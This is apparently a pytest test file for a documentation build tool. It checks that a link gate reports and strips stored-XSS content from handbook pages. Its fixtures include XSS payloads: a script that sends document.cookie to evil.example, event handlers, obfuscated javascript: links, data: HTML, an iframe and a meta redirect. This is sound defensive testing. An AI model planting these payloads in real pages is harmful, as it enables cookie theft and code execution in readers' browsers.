"""No script in a page (issue #8, stored XSS): raw HTML or a link that would run code is refused.

Each hostile line of one page is reported ``[links.script]`` at its own line by the gate (``make
check``), and a plain build leaves all of them out of the page; harmless raw HTML stays.
"""

from __future__ import annotations

import pytest
from bs4 import BeautifulSoup
from links_project import write_project
from sphinx_run import run_module

from generlate_handbook.links.scripts import active_content, script_url

pytestmark = pytest.mark.build

# (case id, page text: one paragraph or block, what the warning names)
HOSTILE = [
    (
        "script-block",
        "<script>\nfetch('https://evil.example/'+document.cookie)\n</script>",
        "<script>",
    ),
    ("script-inline", "Hello <script>alert(1)</script> there", "<script>"),
    ("event-handler", '<img src="img/logo.png" onerror="alert(2)">', "<img onerror=…>"),
    ("event-handler-case", '<b ONMOUSEOVER="alert(3)">hover</b>', "<b onmouseover=…>"),
    ("javascript-href", '<a href="javascript:alert(4)">x</a>', "<a href="),
    ("javascript-entities", '<a href="&#106;avascript:alert(5)">x</a>', "<a href="),
    ("javascript-tab", '<a href="java\tscript:alert(6)">x</a>', "<a href="),
    ("data-html", '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>', "<a href="),
    ("iframe", '<iframe src="https://evil.example/"></iframe>', "<iframe>"),
    ("meta-refresh", '<meta http-equiv="refresh" content="0;url=https://evil.example/">', "<meta>"),
    ("style-expression", '<span style="width: expression(alert(7))">x</span>', "style=…"),
    ("rst-javascript-link", "```{eval-rst}\n`click <javascript:alert(8)>`_\n```", "a link to"),
]


def page() -> tuple[str, dict[str, int]]:
    lines, where = ["# Hostile", ""], {}
    for case, text, _named in HOSTILE:
        where[case] = len(lines) + 1 + text.startswith("```{eval-rst}")
        lines += [*text.splitlines(), ""]
    lines += ['Harmless: <kbd>Ctrl</kbd>+<kbd>C</kbd>, <img src="img/logo.png" alt="logo">.', ""]
    return "\n".join(lines), where


run = run_module


PNG = bytes.fromhex(
    "89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c489"
    "0000000d49444154789c6360000002000100ffff03000006000557bfabd40000000049454e44ae426082"
)


@pytest.fixture(scope="module")
def built(tmp_path_factory: pytest.TempPathFactory) -> tuple[str, BeautifulSoup]:
    root = tmp_path_factory.mktemp("scripts")
    text, _ = page()
    write_project(root, {"index.md": text}, files={"img/logo.png": PNG})
    gate = run(root, "generlate_handbook.links.gate", "handbook", "_build")
    assert gate.returncode == 1, gate.stdout + gate.stderr
    plain = run(root, "sphinx", "-M", "html", "handbook", "_build")
    assert plain.returncode == 0, plain.stderr
    html = (root / "_build" / "html" / "index.html").read_text("utf-8")
    return gate.stdout, BeautifulSoup(html, "html.parser")


@pytest.mark.parametrize(
    ("case", "named"), [(c, n) for c, _t, n in HOSTILE], ids=[c for c, *_ in HOSTILE]
)
def test_active_content_is_a_located_error(built, case, named):
    out, _ = built
    _, where = page()
    located = [
        line for line in out.splitlines() if line.startswith(f"handbook/index.md:{where[case]}: ")
    ]
    assert len(located) == 1, out
    assert named in located[0] and "would run code in every reader's browser" in located[0]


def test_nothing_else_is_reported(built):
    out, _ = built
    assert len([line for line in out.splitlines() if line.startswith("handbook/")]) == len(HOSTILE)


def test_the_page_carries_no_script_and_keeps_harmless_html(built):
    _, soup = built
    article = soup.select_one("article.bd-article")
    assert article.find_all(["script", "iframe", "meta", "style"]) == []
    attributes = [(el.name, name) for el in article.find_all(True) for name in el.attrs]
    assert [a for a in attributes if a[1].lower().startswith("on")] == []
    assert [
        el for el in article.find_all(href=True) if "script:" in el["href"].replace("\t", "")
    ] == []
    assert [kbd.get_text() for kbd in article.find_all("kbd")] == ["Ctrl", "C"]
    assert [img["src"] for img in article.find_all("img")] == ["img/logo.png"]
    assert "click" in article.get_text()  # the refused link keeps its text


@pytest.mark.parametrize(
    ("fragment", "active"),
    [
        ("<br>", False),
        ('<img src="data:image/png;base64,AAAA" alt="">', False),
        ('<a href="https://example.com/">x</a>', False),
        ('<a href="data:image/png;base64,AAAA">x</a>', True),
        ('<svg><a xlink:href="javascript:alert(1)">x</a></svg>', True),
        ('<img srcset="a.png 1x, javascript:alert(1) 2x">', True),
        ("<STYLE>body{}</STYLE>", True),
    ],
)
def test_active_content(fragment, active):
    assert bool(active_content(fragment)) is active


def test_script_url_ignores_what_browsers_ignore():
    assert script_url(" \x01JaVaScRiPt:alert(1)")
    assert not script_url("javascript-guide.html")
